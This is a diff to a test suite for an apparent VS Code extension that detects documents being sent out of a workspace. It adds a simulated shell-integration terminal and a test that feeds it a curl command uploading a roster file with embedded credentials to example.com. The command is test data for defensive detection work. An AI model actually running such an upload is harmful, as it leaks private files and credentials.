@@ -319,6 +319,36 @@ describe('guards: disposal', () => {
 	});
 });
 
+/** A terminal whose shell tells VS Code what it runs, by the escape sequences of shell integration; no process is started. */
+function shell(cwd: string): { terminal: vscode.Terminal; run(line: string): Promise<void> } {
+	const written = new vscode.EventEmitter<string>();
+	const tell = (...sequences: string[]): void => written.fire(sequences.map((sequence) => `\x1b]633;${sequence}\x07`).join(''));
+	let opened = false;
+	const pty: vscode.Pseudoterminal = {
+		onDidWrite: written.event,
+		open: () => {
+			opened = true;
+		},
+		close: () => undefined,
+	};
+	const terminal = vscode.window.createTerminal({ name: 'shell', pty });
+	terminal.show();
+	return {
+		terminal,
+		run: async (line) => {
+			await until('the terminal', () => (opened ? true : undefined));
+			tell(`P;Cwd=${cwd}`, 'A', 'B');
+			await until(
+				'shell integration',
+				() => terminal.shellIntegration,
+				() => 'none',
+			);
+			written.fire(line);
+			tell(`E;${line.replace(/[\\;]/g, (character) => `\\x${character.charCodeAt(0).toString(16)}`)}`, 'C');
+		},
+	};
+}
+
 describe('guards: ways out', () => {
 	let outside = '';
 	before(api);
@@ -380,20 +410,11 @@ describe('guards: ways out', () => {
 		);
 	});
 
-	it('a command in the terminal that sends a document out: a warning and an entry, without the line', async function () {
+	it('a command in the terminal that sends a document out: a warning and an entry, without the line', async () => {
 		put('名簿.md', C2);
 		const someone = answering([]);
-		const terminal = vscode.window.createTerminal({ cwd: file('.'), shellPath: '/bin/bash' });
-		terminal.show();
-		const integration = await until(
-			'shell integration',
-			() => terminal.shellIntegration,
-			() => '',
-			8000,
-		).catch(() => null);
-		// A shell without integration tells nobody what it runs (docs/limits.md).
-		if (integration === null) this.skip();
-		integration.executeCommand('true || curl -u me:geheim123 -F "file=@名簿.md" https://example.com/');
+		const { terminal, run } = shell(file('.'));
+		await run('curl -u me:geheim123 -F file=@名簿.md https://example.com/');
 		const entry = await recorded('terminal');
 		assert.equal(entry.detail, 'curl');
 		assert.deepEqual(
